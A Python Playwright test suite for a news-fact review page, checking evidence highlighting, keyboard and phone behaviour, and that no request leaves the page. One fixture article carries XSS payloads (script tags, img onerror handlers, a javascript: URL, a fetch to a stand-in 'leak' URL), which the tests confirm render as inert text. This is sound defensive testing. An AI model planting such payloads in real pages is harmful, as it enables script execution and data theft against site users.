"""The review page of the sample cluster, in a real browser (Debian's Chromium).

An editor clicks a conflicting value and must see the sentence that gives it, marked,
in the right article, with the fact's other values marked in theirs; the keyboard does
the same; the page works at phone width, runs no script from an article, and sends no
request anywhere.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest

from tests.browser.support import skip_without_browser

skip_without_browser()

from playwright.sync_api import (  # noqa: E402
    Browser,
    ConsoleMessage,
    Page,
    Request,
    ViewportSize,
    expect,
)

from schemas.article import Article  # noqa: E402
from schemas.consensus import Consensus, Fact  # noqa: E402
from tests.browser.support import no_llm_consensus, write_page  # noqa: E402

PHONE: ViewportSize = {"width": 390, "height": 844}
CURRENT = re.compile(r"\bcurrent\b")
OTHER = re.compile(r"\bother\b")
CLICK_EVERY_VALUE = """() => {
  const buttons = document.querySelectorAll("main button.v, main button.jump");
  buttons.forEach((b) => b.click());
  return buttons.length;
}"""


def first_conflict(consensus: Consensus) -> Fact:
    """The sample's first conflict whose values all have evidence in two or more articles."""
    for fact in consensus.facts:
        articles = {ref.article_id for v in fact.values for ref in v.evidence}
        if (
            fact.status == "conflicting"
            and len(articles) > 1
            and all(v.evidence for v in fact.values)
        ):
            return fact
    raise AssertionError("the sample's no-LLM consensus has no conflict with evidence")


def mark_of(page: Page, button_selector: str) -> str:
    """The mark id a value button opens."""
    mark = page.locator(button_selector).get_attribute("data-open")
    assert mark, f"{button_selector} opens no evidence span"
    return mark


@pytest.fixture
def watched(page: Page) -> Iterator[tuple[Page, list[str]]]:
    """The page, with every request it makes and every script error it hits recorded."""
    seen: list[str] = []
    errors: list[str] = []

    def on_request(request: Request) -> None:
        seen.append(request.url)

    def on_console(message: ConsoleMessage) -> None:
        if message.type == "error":
            errors.append(message.text)

    page.on("request", on_request)
    page.on("console", on_console)
    page.on("pageerror", lambda exc: errors.append(str(exc)))
    page.context.route(re.compile(r"^(?!file:).*"), lambda route: route.abort())
    yield page, seen
    assert errors == [], errors


def test_a_conflict_value_opens_its_evidence_highlighted_in_its_article(
    watched: tuple[Page, list[str]], sample: tuple[Consensus, list[Article]], sample_url: str
) -> None:
    page, _ = watched
    consensus, articles = sample
    fact = first_conflict(consensus)
    value = fact.values[0]
    ref = value.evidence[0]
    page.goto(sample_url)
    button = page.locator(f'#conflicts button.v[data-value="{fact.id}:0"]')
    expect(button).to_be_visible()

    button.click()

    mark = page.locator(f'#reader-body [data-m~="{mark_of(page, "button.v[aria-current]")}"]')
    expect(mark.first).to_be_visible()
    expect(mark.first).to_be_in_viewport()
    expect(mark.first).to_have_class(CURRENT)
    assert "".join(mark.all_text_contents()) == ref.span.text
    panel = page.locator(f'#reader-body article[data-article="{ref.article_id}"]')
    expect(panel).to_be_visible()
    expect(page.locator("#reader-body article:visible")).to_have_count(1)
    assert mark.first.evaluate("m => m.closest('article').dataset.article") == ref.article_id
    background = mark.first.evaluate("m => getComputedStyle(m).backgroundColor")
    assert background == "rgb(255, 224, 102)", background  # the chosen-value highlight
    outlet = {a.id: a.outlet for a in articles}[ref.article_id]
    expect(page.locator("#reader-status")).to_contain_text(f"in {outlet}")
    expect(page.locator("#reader-status")).to_contain_text("conflicting")
    expect(button).to_have_attribute("aria-current", "true")


def test_the_facts_other_values_are_marked_in_their_articles(
    watched: tuple[Page, list[str]], sample: tuple[Consensus, list[Article]], sample_url: str
) -> None:
    page, _ = watched
    consensus, articles = sample
    fact = first_conflict(consensus)
    outlets = {a.id: a.outlet for a in articles}
    page.goto(sample_url)
    page.locator(f'#conflicts button.v[data-value="{fact.id}:0"]').click()

    for value in fact.values[1:]:
        ref = value.evidence[0]
        expect(page.locator("#reader-others")).to_contain_text(value.text)
        page.locator(f'#reader [role="tab"][data-article="{ref.article_id}"]').click()
        panel = page.locator(f'#reader-body article[data-article="{ref.article_id}"]')
        expect(panel).to_be_visible()
        marked = panel.locator(".m.other")
        expect(marked.first).to_have_class(OTHER)
        assert ref.span.text in "".join(marked.all_text_contents())
        tab = page.locator(f'#reader [role="tab"][data-article="{ref.article_id}"]')
        expect(tab).to_contain_text(outlets[ref.article_id] or ref.article_id)
        expect(tab).to_contain_text("other")


def test_the_keyboard_reaches_and_opens_values_and_switches_articles(
    watched: tuple[Page, list[str]], sample_url: str
) -> None:
    page, _ = watched
    page.goto(sample_url)
    page.keyboard.press("j")
    first = page.locator("#conflicts button.v").first
    expect(first).to_be_focused()
    expect(first).to_have_attribute("aria-current", "true")
    expect(page.locator("#reader-body .m.current").first).to_be_in_viewport()

    page.keyboard.press("j")
    second = page.locator("#conflicts button.v").nth(1)
    expect(second).to_be_focused()
    expect(second).to_have_attribute("aria-current", "true")

    first.focus()
    page.keyboard.press("Enter")  # a value is a real button: Enter opens it
    expect(first).to_have_attribute("aria-current", "true")

    tab = page.locator('#reader [role="tab"][aria-selected="true"]')
    before = tab.get_attribute("data-article")
    tab.focus()
    page.keyboard.press("ArrowRight")
    after = page.locator('#reader [role="tab"][aria-selected="true"]')
    expect(after).to_be_focused()
    assert after.get_attribute("data-article") != before


def test_at_phone_width_the_article_opens_over_the_facts_and_escape_closes_it(
    browser: Browser, sample_url: str
) -> None:
    context = browser.new_context(viewport=PHONE, is_mobile=True, has_touch=True)
    try:
        page = context.new_page()
        page.goto(sample_url)
        width = page.evaluate("document.documentElement.scrollWidth")
        assert width <= PHONE["width"], f"the page scrolls sideways: {width}px"
        expect(page.locator("#reader")).to_be_hidden()
        button = page.locator("#conflicts button.v").first
        button.tap()
        expect(page.locator("#reader")).to_be_visible()
        expect(page.locator("#reader-body .m.current").first).to_be_in_viewport()
        expect(page.locator("#reader-title")).to_be_focused()
        chosen_tab = page.locator('#reader [role="tab"][aria-selected="true"]')
        expect(chosen_tab).to_be_in_viewport(ratio=0.9)  # the tab strip scrolls to it
        page.keyboard.press("Escape")
        expect(page.locator("#reader")).to_be_hidden()
        expect(button).to_be_focused()
    finally:
        context.close()


def test_no_request_leaves_the_page(watched: tuple[Page, list[str]], sample_url: str) -> None:
    page, seen = watched
    page.goto(sample_url)
    page.locator("#single summary").click()
    page.locator("#conflicts button.v").first.click()
    clicked = page.evaluate(CLICK_EVERY_VALUE)
    assert clicked > 50
    assert seen == [sample_url], seen


INJECTION = Article(
    id="kim-injected",
    outlet='Evil <img src=x onerror="window.__pwned=1"> Wire',
    url="javascript:window.__pwned=2",
    published_at=datetime(2025, 9, 2, 12, 0, tzinfo=UTC),
    title="<script>window.__pwned=3</script>Kim in Beijing",
    text=(
        "North Korean leader Kim Jong Un arrived in Beijing on Tuesday, state media said."
        " <script>window.__pwned = 4; fetch('https://example.com/leak')</script>\n\n"
        "South Korean officials said that around 12,000 North Korean troops have gone to"
        ' Russia. "We will <script>window.__pwned=5</script> never give up our friends,"'
        ' Kim said. <img src=x onerror="window.__pwned=6"> Kim is one of 26 world leaders'
        " expected at the parade.\n"
    ),
)


@pytest.fixture(scope="module")
def injected_url(
    sample: tuple[Consensus, list[Article]], tmp_path_factory: pytest.TempPathFactory
) -> str:
    articles = [*sample[1], INJECTION]
    path = tmp_path_factory.mktemp("review") / "injected.html"
    return write_page(no_llm_consensus(articles), articles, path).as_uri()


def test_an_article_with_script_renders_as_text(
    watched: tuple[Page, list[str]], injected_url: str
) -> None:
    page, seen = watched
    page.goto(injected_url)
    page.evaluate(CLICK_EVERY_VALUE)
    page.locator(f'#reader [role="tab"][data-article="{INJECTION.id}"]').click()
    panel = page.locator(f'#reader-body article[data-article="{INJECTION.id}"]')
    expect(panel).to_contain_text("<script>window.__pwned = 4; fetch(")
    expect(panel).to_contain_text('<img src=x onerror="window.__pwned=6">')
    expect(panel.locator("h3")).to_have_text(INJECTION.title or "")
    assert page.evaluate("window.__pwned") is None
    assert page.locator("script").count() == 1  # ours
    assert page.locator("img").count() == 0
    assert page.locator('a[href^="javascript:"]').count() == 0
    assert seen == [injected_url], seen


def test_the_injected_quote_is_marked_as_text(
    watched: tuple[Page, list[str]], injected_url: str, tmp_path: Path
) -> None:
    page, _ = watched
    page.goto(injected_url)
    page.locator("#single summary").click()
    quote = page.locator("main button.v", has_text="never give up").first
    quote.click()
    mark = page.locator("#reader-body .m.current")
    expect(mark.first).to_be_in_viewport()
    assert "<script>window.__pwned=5</script>" in "".join(mark.all_text_contents())
    assert page.evaluate("window.__pwned") is None
